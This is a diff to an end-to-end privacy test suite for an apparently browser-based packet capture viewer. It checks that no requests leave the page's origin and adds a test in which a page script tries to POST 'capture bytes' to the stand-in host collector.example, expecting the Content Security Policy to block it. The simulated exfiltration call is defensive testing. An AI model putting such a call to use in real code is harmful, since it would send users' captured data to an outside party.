@@ -268,9 +268,12 @@ describe('privacy and safety', () => {
     // dns_udp.pcap: a query and its response
     await page.waitForFunction(() => /Displayed: 1\b/.test(document.querySelector('footer[role="status"]')?.textContent ?? ''));
     await selectRow(page, 1);
+    await filter.fill('');
+    await filter.press('Enter');
     await page.getByRole('button', { name: 'Open sample capture' }).click();
     await waitForPackets(page, 60);
-    await selectRow(page, 37);
+    await page.waitForFunction(() => /Displayed: 60\b/.test(document.querySelector('footer[role="status"]')?.textContent ?? ''));
+    await selectRow(page, 5);
     await expandAll(page);
 
     // the worker's requests are visible at all (the engine script): the net catches workers too
@@ -279,9 +282,19 @@ describe('privacy and safety', () => {
     expect(elsewhere).toEqual([]);
     // what the page itself recorded agrees
     const resources = await page.evaluate(() => performance.getEntriesByType('resource').map((e) => e.name));
-    expect(resources.filter((u) => new URL(u).origin !== location.origin)).toEqual([]);
+    expect(resources.filter((u) => new URL(u).origin !== ORIGIN)).toEqual([]);
     expect(violations).toEqual([]);
     expect(errors).toEqual([]);
+
+    // and were a script of the page to try, the CSP would stop it before any byte left
+    const attempt = await page.evaluate(() =>
+      fetch('https://collector.example/upload', { method: 'POST', body: 'capture bytes' }).then(
+        () => 'sent',
+        () => 'blocked',
+      ),
+    );
+    expect(attempt).toBe('blocked');
+    await expect.poll(() => violations).toEqual(['connect-src https://collector.example/upload']);
     await context.close();
   });
 
